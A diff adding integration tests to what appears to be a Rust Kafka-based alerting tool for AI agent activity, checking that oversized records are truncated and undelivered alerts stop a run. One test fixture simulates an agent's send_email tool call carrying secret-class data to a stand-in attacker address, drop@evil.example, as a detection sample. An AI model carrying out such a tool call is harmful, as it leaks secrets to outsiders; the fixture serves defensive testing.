@@ -10,6 +10,10 @@
 //! instances in one group, one of them killed with SIGKILL mid-stream and restarted, give
 //! exactly the file run's alerts, and the shared alert store holds each once.
 //!
+//! Records too large for the producer (a 1.5 MB bad record, an alert carrying 1 MB of tool
+//! arguments) are cut to fit rather than stop the stream; an alert the broker never takes
+//! stops the run uncommitted, and the next run puts every alert on the topic.
+//!
 //! Needs `tansu` (`cargo install tansu --locked --features dynostore`; `.ci/run` installs it).
 
 #![allow(clippy::unwrap_used)]
@@ -246,6 +250,24 @@ impl Running {
         let log = self.log.lock().unwrap().clone();
         assert!(status.success(), "exit {status}:\n{log}");
         log
+    }
+
+    /// Waits at most `secs` for the instance to exit by itself: its status and log.
+    fn exit_within(mut self, secs: u64) -> (std::process::ExitStatus, String) {
+        let deadline = std::time::Instant::now() + Duration::from_secs(secs);
+        loop {
+            if let Some(status) = self.child.try_wait().unwrap() {
+                // The drain thread has the last lines once the pipe closed.
+                std::thread::sleep(Duration::from_millis(200));
+                return (status, self.log.lock().unwrap().clone());
+            }
+            if std::time::Instant::now() > deadline {
+                let log = self.log.lock().unwrap().clone();
+                self.kill9();
+                panic!("still running after {secs} s:\n{log}");
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
     }
 
     fn kill9(mut self) {
@@ -1394,4 +1416,194 @@ fn action_results_reach_their_topic() {
         // The same record the action log has.
         assert!(logged.contains(v["action"]["id"].as_str().unwrap()));
     }
+}
+
+/// Records too large for the producer (the client's `message.max.bytes`) do not stop the
+/// stream. A bad one's dead letter carries its first bytes and says how long it was; an
+/// alert whose evidence is too large (a tool call with 1 MB of arguments) goes to the alerts
+/// topic without its evidences' data, whole in the alerts file. The records after them are
+/// read and committed.
+#[test]
+fn oversized_records_and_alerts_are_cut_to_fit() {
+    let b = broker();
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (events, _) = small_traffic(d);
+    let text = std::fs::read_to_string(&events).unwrap();
+    let lines: Vec<&str> = text.lines().take(200).collect();
+    produce(&client(&b.addr), &lines, &[]);
+    // 1.5 MB that is not an event, and a secret sent out by email with 1 010 000 bytes of
+    // arguments (under the 1 MiB record limit of the decoder, over the producer's limit
+    // once it is an alert's evidence).
+    let big = format!("{{\"not an event\": \"{}\"}}", "x".repeat(1_500_000));
+    let leak = serde_json::json!({
+        "event.id": "01KBIGEVENT0000000000000000",
+        "@timestamp": "2030-01-01T00:00:00Z",
+        "gen_ai.agent.id": "agent-big",
+        "mcp.method.name": "tools/call",
+        "gen_ai.tool.name": "send_email",
+        "audit.decision": "allow",
+        "audit.data_class": "secret",
+        "gen_ai.tool.call.arguments": {"to": "drop@evil.example", "body": "A".repeat(1_010_000)},
+    })
+    .to_string();
+    let producer: BaseProducer = client(&b.addr)
+        .set("message.max.bytes", "4000000")
+        .create()
+        .unwrap();
+    for (p, payload) in [(0, &big), (1, &leak)] {
+        producer
+            .send(
+                BaseRecord::to("events")
+                    .key("big")
+                    .payload(payload.as_str())
+                    .partition(p),
+            )
+            .unwrap();
+    }
+    producer.flush(Duration::from_secs(30)).unwrap();
+    let config = d.join("cordon.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[kafka]\nbrokers = \"{}\"\ngroup_id = \"cordon-big\"\ntopics = [\"events\"]\n\
+             alerts_topic = \"alerts\"\ndead_letter_topic = \"dead\"\ncommit_interval = \"200ms\"\n\
+             [kafka.properties]\n\"fetch.message.max.bytes\" = \"4000000\"\n",
+            b.addr
+        ),
+    )
+    .unwrap();
+    let keys = d.join("keys.json");
+    let api = api_key(&keys, "viewer");
+    let run = Running::spawn(&config, &d.join("alerts.jsonl"), &d.join("store"), &keys);
+    wait_until(90, "every record read and committed", &[&run], || {
+        run.metric(&api, "cordon_kafka_dead_letter_records_total") >= 1.0
+            && run.lags(&api).len() == 4
+            && run.lags(&api).iter().all(|(_, l)| *l == 0.0)
+    });
+    assert_eq!(
+        run.metric(&api, "cordon_kafka_dead_letters_truncated_total"),
+        1.0
+    );
+    let log = run.terminate();
+    let header = |m: &rdkafka::message::OwnedMessage, k: &str| {
+        m.headers()
+            .and_then(|h| h.iter().find(|h| h.key == k))
+            .and_then(|h| h.value)
+            .map(|v| String::from_utf8_lossy(v).into_owned())
+    };
+    let dead = drain(&client(&b.addr), "dead", 1);
+    assert_eq!(dead.len(), 1, "{log}");
+    assert_eq!(
+        header(&dead[0], "cordon.source.partition").as_deref(),
+        Some("0")
+    );
+    assert_eq!(
+        header(&dead[0], "cordon.truncated"),
+        Some(big.len().to_string())
+    );
+    let payload = dead[0].payload().unwrap();
+    assert!(payload.len() < 1_000_000, "{}", payload.len());
+    assert!(big.as_bytes().starts_with(payload));
+    // The leak's alert: whole in the file, without evidences on the topic.
+    let whole: Vec<serde_json::Value> = std::fs::read_to_string(d.join("alerts.jsonl"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|v: &serde_json::Value| v["unmapped"]["gen_ai.agent.id"] == "agent-big")
+        .collect();
+    assert_eq!(whole.len(), 1, "{log}");
+    let uid = whole[0]["finding_info"]["uid"].as_str().unwrap();
+    assert_eq!(whole[0]["evidences"].as_array().unwrap().len(), 1);
+    let on_topic: Vec<_> = drain(&client(&b.addr), "alerts", 1)
+        .into_iter()
+        .filter(|m| m.key() == Some(b"agent-big".as_slice()))
+        .collect();
+    assert_eq!(on_topic.len(), 1, "{log}");
+    let v: serde_json::Value = serde_json::from_slice(on_topic[0].payload().unwrap()).unwrap();
+    assert_eq!(v["finding_info"]["uid"], uid);
+    assert_eq!(v["evidences"], serde_json::json!([]));
+    assert_eq!(
+        v["finding_info"]["related_events"][0]["uid"],
+        "01KBIGEVENT0000000000000000"
+    );
+    let omitted: usize = header(&on_topic[0], "cordon.evidences_omitted")
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(omitted > 1_000_000, "{omitted}");
+    assert!(
+        log.contains("alert too large for the alerts topic")
+            && log.contains("dead letter cut to fit"),
+        "{log}"
+    );
+}
+
+/// An alert the broker never takes (here its topic does not exist, and
+/// `message.timeout.ms` is short) stops the run with the reason, and nothing after it is
+/// committed: the next run in the group restores the partitions' state from before it,
+/// reads those events again and puts every alert of the file run on the alerts topic.
+#[test]
+fn an_undelivered_alert_stops_the_run_uncommitted() {
+    let b = broker();
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let events = generated(d, &["--seed", "4", "--agents", "10", "--duration", "2h"]);
+    let reference = file_run(d, &events, &[]);
+    assert!(!reference.is_empty());
+    let text = std::fs::read_to_string(&events).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    produce(&client(&b.addr), &lines, &[]);
+    let sent = lines.len() as f64;
+    let keys = d.join("keys.json");
+    let api = api_key(&keys, "viewer");
+    let config = |name: &str, alerts: &str| {
+        let path = d.join(format!("{name}.toml"));
+        std::fs::write(
+            &path,
+            format!(
+                "[kafka]\nbrokers = \"{}\"\ngroup_id = \"cordon-undelivered\"\ntopics = [\"events\"]\n\
+                 alerts_topic = \"{alerts}\"\nstate_store = \"{}\"\ncommit_interval = \"200ms\"\n\
+                 [kafka.properties]\n\"message.timeout.ms\" = \"1500\"\n\"session.timeout.ms\" = \"6000\"\n",
+                b.addr,
+                d.join("state").display()
+            ),
+        )
+        .unwrap();
+        path
+    };
+    let first = Running::spawn(
+        &config("first", "no-such-topic"),
+        &d.join("first.jsonl"),
+        &d.join("store"),
+        &keys,
+    );
+    let (status, log) = first.exit_within(120);
+    assert!(!status.success(), "{log}");
+    assert!(
+        log.contains("were not delivered") && log.contains("to no-such-topic"),
+        "{log}"
+    );
+    assert!(!alert_ids(&d.join("first.jsonl")).is_empty(), "{log}");
+    // Its session is over before the next run joins (see `kafka_input_gives_the_file_runs_alerts`).
+    std::thread::sleep(Duration::from_secs(7));
+    let second = Running::spawn(
+        &config("second", "alerts"),
+        &d.join("second.jsonl"),
+        &d.join("store"),
+        &keys,
+    );
+    wait_until(120, "the rest read again", &[&second], || {
+        second.lags(&api).len() == 4 && second.lags(&api).iter().all(|(_, l)| *l == 0.0)
+    });
+    let log = second.terminate();
+    let on_topic: BTreeSet<String> = drain(&client(&b.addr), "alerts", reference.len())
+        .iter()
+        .map(|m| {
+            let v: serde_json::Value = serde_json::from_slice(m.payload().unwrap()).unwrap();
+            v["finding_info"]["uid"].as_str().unwrap().to_owned()
+        })
+        .collect();
+    assert_eq!(on_topic, reference, "{log}");
+    let _ = sent;
 }
